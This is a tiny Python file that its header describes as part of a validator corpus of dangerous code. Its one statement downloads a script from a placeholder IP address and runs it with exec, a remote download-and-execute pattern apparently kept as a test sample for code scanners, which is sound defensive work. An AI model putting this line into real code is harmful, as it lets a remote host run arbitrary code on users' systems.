# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
import requests

exec(requests.get("http://203.0.113.5/payload.py", timeout=5).text)
